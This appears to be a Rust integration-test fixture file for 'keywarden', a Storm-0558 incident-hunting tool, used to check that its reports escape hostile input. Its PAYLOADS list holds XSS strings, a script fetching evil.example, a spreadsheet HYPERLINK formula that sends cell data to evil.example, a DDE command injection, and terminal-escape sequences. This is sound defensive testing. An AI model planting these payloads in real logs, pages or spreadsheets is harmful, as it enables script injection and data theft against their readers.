//! Fixtures shared by the integration tests: a real-shaped Storm-0558 hunt result (alerts and
//! exposure as `keywarden hunt` writes them) and hostile values for escaping tests.
#![allow(dead_code)]

use keywarden_model::{
    Alert, Exposure, IncidentExposure, MailboxExposure, Severity, TimeWindow, Timestamp,
};
use keywarden_report::{InputSummary, ReportSummary};

const ALERTS: &str = include_str!("../fixtures/alerts.jsonl");
const EXPOSURE: &str = include_str!("../fixtures/exposure.json");

pub fn alerts() -> Vec<Alert> {
    ALERTS
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).expect("fixture alert parses"))
        .collect()
}

pub fn exposure() -> Exposure {
    serde_json::from_str(EXPOSURE).expect("fixture exposure parses")
}

pub fn summary() -> ReportSummary {
    let mut s = ReportSummary::new(
        "0.1.0",
        Timestamp::parse("2023-07-14T09:00:00Z").expect("time"),
    );
    s.inputs = vec![
        InputSummary {
            path: "exports/ual-2023-06.jsonl".into(),
            format: "ual-json".into(),
            records: 120_412,
            events: 120_410,
            rejected: 2,
            skipped: None,
        },
        InputSummary {
            path: "exports/signins-2023-06.json".into(),
            format: "signin-graph".into(),
            records: 48_977,
            events: 48_977,
            rejected: 0,
            skipped: None,
        },
        InputSummary {
            path: "exports/notes.pdf".into(),
            format: "not-a-log".into(),
            records: 0,
            events: 0,
            rejected: 0,
            skipped: Some("binary data (PDF)".into()),
        },
    ];
    s
}

/// Strings an attacker can plant in any logged field.
pub const PAYLOADS: [&str; 9] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "'><svg onload=alert(1)>",
    "</style><script>fetch('https://evil.example/x')</script>",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "evil\u{1b}[2J\u{1b}]0;owned\u{7}\r\n\u{202e}gnp.exe\u{0}\u{ffff}",
    "-->]]></svg></title></pre></textarea>",
];

/// One alert per payload, the payload in every text field (and in the evidence), all in one
/// incident with an exposure that carries the payloads too.
pub fn hostile() -> (Vec<Alert>, Exposure, ReportSummary) {
    let t = Timestamp::parse("2023-06-15T04:05:03Z").expect("time");
    let alerts = PAYLOADS
        .iter()
        .enumerate()
        .map(|(i, p)| {
            let mut a = Alert::new(*p, *p, Severity::Critical);
            let s = Some(p.to_string());
            a.id = p.to_string();
            a.time_first = Some(t.plus_seconds(i as i64 * 600));
            a.time_last = Some(t.plus_seconds(i as i64 * 600 + 300));
            a.tenant = s.clone();
            a.user = s.clone();
            a.mailbox = s.clone();
            a.client_ip = s.clone();
            a.app_id = s.clone();
            a.client_app_id = s.clone();
            a.session_id = s.clone();
            a.token_id = s.clone();
            a.incident_id = s.clone();
            a.attack = vec![p.to_string()];
            a.evidence = serde_json::json!({ *p: p, "nested": [p] });
            a.record_ids = vec![p.to_string()];
            a
        })
        .collect();
    let exposure = Exposure {
        incidents: PAYLOADS
            .iter()
            .map(|p| IncidentExposure {
                id: p.to_string(),
                severity: Severity::Critical,
                first: Some(t),
                last: Some(t),
                mailboxes: vec![MailboxExposure {
                    mailbox: p.to_string(),
                    messages: vec![p.to_string()],
                    folders_synced: vec![p.to_string()],
                    throttled_windows: vec![TimeWindow {
                        start: t,
                        end: t.plus_seconds(86_400),
                    }],
                    linked_by: [(p.to_string(), 1)].into_iter().collect(),
                    aliases: vec![p.to_string()],
                }],
            })
            .collect(),
    };
    let mut summary = summary();
    for p in PAYLOADS {
        summary.inputs.push(InputSummary {
            path: p.to_string(),
            format: p.to_string(),
            records: 1,
            events: 0,
            rejected: 1,
            skipped: Some(p.to_string()),
        });
    }
    (alerts, exposure, summary)
}
